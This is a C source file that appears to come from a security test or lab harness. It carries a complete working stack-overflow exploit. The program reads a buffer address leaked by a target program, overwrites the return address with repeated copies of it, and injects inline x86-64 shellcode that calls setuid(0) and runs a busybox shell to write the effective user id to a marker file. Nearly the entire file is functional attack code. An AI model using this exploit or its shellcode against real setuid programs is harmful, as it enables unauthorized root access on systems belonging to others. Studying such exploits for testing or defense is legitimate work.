// SPDX-License-Identifier: MIT
/*
 * `attack PROGRAM` hijacks the weak program as user 1000: writes code into its buffer, and the
 * buffer's address over the return address. The code makes root the real user, whether or not it
 * may, and executes a shell that leaves root's mark. `attack PROGRAM harmless` only greets it.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

__asm__(".section .rodata\n"
	"code:\n"
	"	xor %edi, %edi\n"
	"	mov $105, %eax\n" /* setuid(0) */
	"	syscall\n"
	"	lea shell(%rip), %rdi\n"
	"	lea flag(%rip), %rsi\n"
	"	lea act(%rip), %rdx\n"
	"	push $0\n"
	"	push %rdx\n"
	"	push %rsi\n"
	"	lea name(%rip), %rcx\n"
	"	push %rcx\n"
	"	mov %rsp, %rsi\n"
	"	xor %edx, %edx\n"
	"	mov $59, %eax\n" /* execve */
	"	syscall\n"
	"	mov $99, %edi\n"
	"	mov $60, %eax\n" /* exit */
	"	syscall\n"
	"shell:	.asciz \"/bin/busybox\"\n"
	"name:	.asciz \"sh\"\n"
	"flag:	.asciz \"-c\"\n"
	"act:	.asciz \"id -u > /marks/mark\"\n"
	"code_end:\n"
	".text\n");
extern const char code[], code_end[];

/* The return address is at most this far behind the buffer. */
#define REACH 160

int main(int argc, char **argv)
{
	int to[2], from[2], status;
	char line[64] = "", sent[1024];
	unsigned long buffer, entry;
	size_t length;

	if (argc < 2 || pipe(to) || pipe(from) || setgid(1000) || setuid(1000))
		return 2;
	if (!fork()) {
		dup2(to[0], 0);
		dup2(from[1], 1);
		execv(argv[1], (char *[]){argv[1], 0});
		_exit(127);
	}
	/* The helper says something, too. */
	FILE *said = fdopen(from[0], "r");

	close(from[1]);
	do {
		if (!fgets(line, sizeof line, said))
			return 2;
	} while (strncmp(line, "0x", 2));
	buffer = strtoul(line, 0, 16);
	/* The address fills all places where the return address may be; the code comes after. */
	entry = buffer + REACH;
	for (length = 0; length < REACH; length += sizeof entry)
		memcpy(sent + length, &entry, sizeof entry);
	memcpy(sent + length, code, code_end - code);
	length += code_end - code;
	if (argc > 2)
		length = snprintf(sent, sizeof sent, "hello\n");
	if (write(to[1], sent, length) != (ssize_t)length)
		return 2;
	close(to[1]);
	while (fgets(line, sizeof line, said))
		;
	wait(&status);
	return WIFEXITED(status) ? WEXITSTATUS(status) : 100;
}
